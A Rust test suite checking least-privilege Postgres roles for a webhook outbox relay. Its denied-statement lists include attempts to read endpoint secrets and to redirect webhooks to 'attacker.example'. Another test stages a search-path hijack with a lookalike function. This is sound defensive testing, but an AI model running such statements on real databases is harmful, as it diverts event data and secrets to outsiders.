//! Least-privilege roles: postbox_writer, postbox_relay, postbox_admin.
//! Group roles are tried with SET ROLE on a superuser connection; the relay
//! runs for real under a login role that is a member of postbox_relay.

use std::time::Duration;

use serde_json::json;
use tokio_postgres::{error::SqlState, Client};
use uuid::Uuid;

use crate::support::{app::test_settings, relay::InProcessRelay, Receiver, TestApp};

/// Runs `sql` and expects Postgres to refuse it for lack of privilege.
async fn assert_denied(client: &Client, sql: &str) {
    match client.batch_execute(sql).await {
        Ok(()) => panic!("expected permission denied for: {sql}"),
        Err(err) => assert_eq!(
            err.code(),
            Some(&SqlState::INSUFFICIENT_PRIVILEGE),
            "expected permission denied for {sql}, got: {err:?}"
        ),
    }
}

fn message(err: &tokio_postgres::Error) -> String {
    err.as_db_error().map(|e| e.message().to_owned()).unwrap_or_else(|| err.to_string())
}

#[tokio::test]
async fn writers_insert_and_emit_events_but_cannot_see_subscriptions() {
    let app = TestApp::new().await;
    app.register("order.created").await;
    let endpoint = app.subscribe("https://example.com/hooks", &["*"]).await;
    app.sql
        .batch_execute(
            "create table orders (id int primary key, total int);
             select postbox.track('orders', 'order', actions => '{created}');
             grant insert on orders to postbox_writer;",
        )
        .await
        .unwrap();
    let writer = app.db.connect().await;
    writer.batch_execute("set role postbox_writer").await.unwrap();

    // An order and its event in one transaction, three ways.
    writer
        .batch_execute(
            "begin;
             insert into orders values (1, 1250);
             insert into postbox.outbox (event_type, payload, tenant) values ('order.created', '{\"id\": 1}', 'acme');
             select postbox.emit('order.created', '{\"id\": 1}');
             commit;",
        )
        .await
        .expect("a writer inserts, emits and fires tracked-table triggers");
    let event: Uuid = writer
        .query_one(
            "insert into postbox.outbox (event_type, payload) values ('order.created', '{}') returning event_id",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(app.count("select count(*) from postbox.outbox where event_type = 'order.created'").await, 4);
    assert!(!event.is_nil());

    for sql in [
        "select * from postbox.endpoints",
        "select secret from postbox.endpoints",
        "select * from postbox.deliveries",
        "select * from postbox.attempts",
        "select payload from postbox.outbox",
        "update postbox.outbox set dispatched_at = now()",
        "insert into postbox.outbox (event_type, payload, dispatched_at) values ('order.created', '{}', now())",
        "select postbox.subscribe('https://attacker.example/hooks')",
        "update postbox.endpoints set url = 'https://attacker.example/'",
        "create table postbox.mine (id int)",
    ] {
        assert_denied(&writer, sql).await;
    }
    assert_denied(&writer, &format!("select postbox.rotate_secret('{endpoint}')")).await;
}

#[tokio::test]
async fn outbox_checks_cannot_be_fooled_through_the_search_path() {
    let app = TestApp::new().await;
    app.register("order.created").await;
    // A lookalike of a built-in the validation trigger uses, placed first on
    // the writer's search path: pinned function search paths ignore it.
    app.sql
        .batch_execute(
            "create schema trick;
             create function trick.jsonb_typeof(jsonb) returns text language sql as $$ select 'object' $$;
             create table trick.event_types (name text);
             insert into trick.event_types values ('made.up');
             grant usage on schema trick to postbox_writer;
             grant select on trick.event_types to postbox_writer;
             grant execute on function trick.jsonb_typeof(jsonb) to postbox_writer;",
        )
        .await
        .unwrap();
    let writer = app.db.connect().await;
    writer
        .batch_execute("set role postbox_writer; set search_path = trick, pg_catalog, postbox")
        .await
        .unwrap();
    let not_an_object = writer
        .batch_execute("insert into postbox.outbox (event_type, payload) values ('order.created', '[1]')")
        .await
        .unwrap_err();
    assert!(message(&not_an_object).contains("must be a JSON object"), "{not_an_object:?}");
    let unknown = writer.batch_execute("select postbox.emit('made.up', '{}')").await.unwrap_err();
    assert!(message(&unknown).contains("unknown event type"), "{unknown:?}");
}

#[tokio::test]
async fn admins_manage_endpoints_but_cannot_change_the_schema() {
    let app = TestApp::new().await;
    app.register("order.created").await;
    let admin = app.db.connect().await;
    admin.batch_execute("set role postbox_admin").await.unwrap();
    let endpoint: Uuid =
        admin.query_one("select postbox.subscribe('https://example.com/hooks')", &[]).await.unwrap().get(0);
    admin.execute("select postbox.rotate_secret($1)", &[&endpoint]).await.unwrap();
    admin.execute("select postbox.ping($1)", &[&endpoint]).await.unwrap();
    admin.execute("select postbox.register_event_type('order.paid')", &[]).await.unwrap();
    admin.execute("update postbox.endpoints set enabled = false where id = $1", &[&endpoint]).await.unwrap();
    let secrets: i64 =
        admin.query_one("select count(secret) from postbox.endpoints", &[]).await.unwrap().get(0);
    assert_eq!(secrets, 1);
    admin.query("select * from postbox.deliveries join postbox.attempts on true", &[]).await.unwrap();
    for sql in [
        "alter table postbox.outbox add column oops int",
        "drop table postbox.attempts",
        "create table postbox.mine (id int)",
        "delete from postbox.schema_migrations",
    ] {
        assert_denied(&admin, sql).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_relay_runs_as_a_postbox_relay_member_without_ddl_rights() {
    let app = TestApp::new().await;
    app.register("order.created").await;
    let mut receiver = Receiver::start().await;
    let login = format!("relay_{}", Uuid::new_v4().simple());
    app.sql.batch_execute(&format!("create role {login} login in role postbox_relay")).await.unwrap();
    let url = app.db.url.replacen("postgres@", &format!("{login}@"), 1);
    assert_ne!(url, app.db.url, "the test database URL names the postgres user");

    let relay = InProcessRelay::start(test_settings(&url, &[])).await;
    let base = relay.base.clone();

    // The admin API creates an endpoint; the relay delivers to it.
    let created = reqwest::Client::new()
        .post(format!("{base}/api/v1/endpoints"))
        .header("content-type", "application/json")
        .body(json!({"url": receiver.url("/hooks")}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), 201, "{}", created.text().await.unwrap());
    app.emit("order.created", json!({"id": 7})).await;
    assert_eq!(receiver.recv().await.json()["data"], json!({"id": 7}));
    app.wait_for_count(
        "select count(*) from postbox.deliveries where status = 'succeeded'",
        1,
        Duration::from_secs(10),
    )
    .await;

    let as_relay = {
        let (client, connection) = tokio_postgres::connect(&url, tokio_postgres::NoTls).await.unwrap();
        tokio::spawn(connection);
        client
    };
    for sql in
        ["create table postbox.mine (id int)", "drop table postbox.outbox", "truncate postbox.attempts"]
    {
        assert_denied(&as_relay, sql).await;
    }
    drop(as_relay);
    relay.stop().await;
    // Roles are cluster-wide: leave none behind.
    app.sql.batch_execute(&format!("drop owned by {login}; drop role {login}")).await.unwrap();
}
